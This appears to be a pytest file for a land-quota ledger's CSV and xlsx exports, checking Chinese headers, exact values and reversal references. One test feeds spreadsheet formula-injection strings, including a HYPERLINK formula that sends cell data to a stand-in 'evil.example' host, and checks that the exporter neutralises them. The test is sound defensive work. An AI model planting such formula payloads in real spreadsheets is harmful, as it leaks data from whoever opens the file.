"""Exports of balances and movements: Chinese headers, exact values, both formats."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from quota_support import CITY, DCF, T0, Y, register_fixed_projects

from blueprint.analysis import quota
from blueprint.analysis.quota.exports import BALANCE_COLUMNS, MOVEMENT_COLUMNS, export, write_export
from blueprint.layers.errors import BadInput
from blueprint.layers.store import Store


@pytest.fixture
def ledger(store: Store) -> Store:
    register_fixed_projects(store, ["聊城-P1"])
    quota.grant(year=Y, kind="land", county="371502", amount="100", user=CITY, reason="下达",
                key="g", store=store, county_name="东昌府区", at=T0)
    quota.allocate(year=Y, kind="land", county="371502", project="聊城-P1", amount="12.3456",
                   user=DCF, reason="配置,含逗号与\"引号\"", key="a", store=store, at=T0)
    return store


def test_balances_xlsx(ledger: Store, tmp_path: Path) -> None:
    path = write_export(tmp_path / "b.xlsx", what="balances", fmt="xlsx", store=ledger)
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [zh for _, zh in BALANCE_COLUMNS]
    assert all("\u4e00" <= h[0] <= "\u9fff" for h in rows[0])  # every header is Chinese
    header = rows[0]
    by_title = {r[header.index("账户")]: r for r in rows[1:]}
    county = by_title["东昌府区县级储备"]
    assert county[header.index("已配置")] == pytest.approx(12.3456)
    assert county[header.index("可用")] == pytest.approx(57.6544)
    assert county[header.index("可用（亩）")] == pytest.approx(864.82)  # 57.6544 × 15
    assert by_title["测试项目 聊城-P1（聊城-P1）项目配置"][header.index("可用")] is None
    assert not (tmp_path / "b.xlsx.partial").exists()


def test_movements_csv_is_exact_and_quoted(ledger: Store) -> None:
    text = export(what="movements", fmt="csv", store=ledger).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [zh for _, zh in MOVEMENT_COLUMNS]
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert (last["操作"], last["调出账户"], last["调入账户"], last["数量"]) == (
        "配置", "东昌府区县级储备", "测试项目 聊城-P1（聊城-P1）项目配置", "12.3456")
    assert last["事由"] == "配置,含逗号与\"引号\"" and last["操作人"] == "dcf"
    assert Decimal(last["数量"]) + Decimal(rows[2][9]) == Decimal("82.3456")


def test_filters_and_bad_requests(ledger: Store, tmp_path: Path) -> None:
    text = export(what="balances", fmt="csv", store=ledger,
                  county="371521").decode("utf-8-sig")
    assert text.strip().splitlines()[1:] == []
    out = tmp_path / "out"
    out.mkdir()
    for what, fmt in (("quotas", "csv"), ("balances", "pdf")):
        with pytest.raises(BadInput):
            write_export(out / "x", what=what, fmt=fmt, store=ledger)
    assert list(out.iterdir()) == []


def test_text_is_never_a_formula(store: Store) -> None:
    """Reasons, names, project codes and keys starting with = + - @ stay plain text."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"附件")'
    register_fixed_projects(store, ["-2+3"])
    quota.grant(year=Y, kind="land", county="371502", amount="100", user=CITY,
                reason="@SUM(A1:A9)", key="=1+1", store=store, county_name="=东昌府区", at=T0)
    quota.grant(year=Y, kind="land", county="371521", amount="100", user=CITY, reason="下达",
                key="g2", store=store, at=T0)
    quota.allocate(year=Y, kind="land", county="371502", project="-2+3", amount="1",
                   user=DCF, reason=evil, key="+a", store=store, at=T0)
    quota.adjust(year=Y, kind="land", seller="371502", buyer="371521", amount="5",
                 price="100", user=CITY, reason="\t=1+1", key="adj", store=store, at=T0)
    # CSV: dangerous text gets a leading ', numbers (even negative ones) stay as they are.
    text = export(what="movements", fmt="csv", store=store).decode("utf-8-sig")
    moves = list(csv.DictReader(io.StringIO(text)))
    allocation = next(m for m in moves if m["操作"] == "配置")
    assert (allocation["事由"], allocation["系统参考号"], allocation["调出账户"],
            allocation["调入账户"], allocation["数量"]) == (
        "'" + evil, "'+a", "'=东昌府区县级储备", "测试项目 -2+3（-2+3）项目配置", "1")
    assert moves[0]["事由"] == "'@SUM(A1:A9)" and moves[0]["系统参考号"] == "'=1+1"
    assert moves[-1]["事由"] == "'\t=1+1"
    text = export(what="balances", fmt="csv", store=store).decode("utf-8-sig")
    rows = {r["县区代码"] + r["项目"]: r for r in csv.DictReader(io.StringIO(text))
            if r["账户类型"] in ("县级储备", "项目配置")}
    assert rows["371502"]["有偿调剂"] == "-5" and rows["371502"]["账户"] == "'=东昌府区县级储备"
    assert rows["371502'-2+3"]["项目"] == "'-2+3"
    # xlsx: every text cell is a string cell with its text unchanged; no formula anywhere.
    for what in ("movements", "balances"):
        data = export(what=what, fmt="xlsx", store=store)
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            assert all("<f>" not in book.read(n).decode() and "<f " not in book.read(n).decode()
                       for n in book.namelist() if n.startswith("xl/worksheets/"))
        cells = [c for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r]
        assert not [c for c in cells if c.data_type == "f"]
        values = {c.value for c in cells}
        if what == "movements":
            assert {evil, "+a", "测试项目 -2+3（-2+3）项目配置", "\t=1+1",
                    "@SUM(A1:A9)"} <= values
        else:
            adjusted = [c for c in cells if c.value == -5]
            assert adjusted and all(c.data_type == "n" for c in adjusted)
            assert {"=东昌府区县级储备", "-2+3"} <= values


def test_movements_say_what_a_reversal_reverses_and_keep_the_key_last(ledger: Store) -> None:
    """The export's 幂等键 (page:<uuid>) sat among the ledger's figures and 冲正分录号 was a
    bare number a finance office could not read. Now 冲正对象 says 冲正分录 N（操作 M，配置）
    and the key, unchanged, is the last column, 系统参考号 — in CSV and xlsx alike."""
    import sqlalchemy as sa

    allocation = quota.movements(store=ledger, op="allocate")[0]["operation_id"]
    quota.reverse(operation_id=allocation, user=CITY, reason="录入错误冲正", key="page:r-1",
                  store=ledger, at=T0)
    with ledger.engine.connect() as conn:  # each reversing entry and what it reverses
        pairs = conn.execute(sa.text(
            "SELECT r.id, e.id, e.operation_id FROM quota_entries r JOIN quota_entries e"
            " ON e.id = r.reverses_id ORDER BY r.id")).all()
    assert pairs and all(op == allocation for _, _, op in pairs)
    expected = {str(r): f"冲正分录 {e}（操作 {op}，配置）" for r, e, op in pairs}
    header = [zh for _, zh in MOVEMENT_COLUMNS]
    assert header[-1] == "系统参考号" and "幂等键" not in header and "冲正分录号" not in header
    text = export(what="movements", fmt="csv", store=ledger).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == header
    assert {r["分录号"]: r["冲正对象"] for r in rows if r["冲正对象"]} == expected
    assert [r["系统参考号"] for r in rows] == ["g", "g", "a", "page:r-1"]
    sheet = load_workbook(io.BytesIO(export(what="movements", fmt="xlsx",
                                            store=ledger))).active
    book = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2,
                                                                       values_only=True)]
    assert {str(r["分录号"]): r["冲正对象"] for r in book if r["冲正对象"]} == expected
    assert [r["系统参考号"] for r in book] == ["g", "g", "a", "page:r-1"]
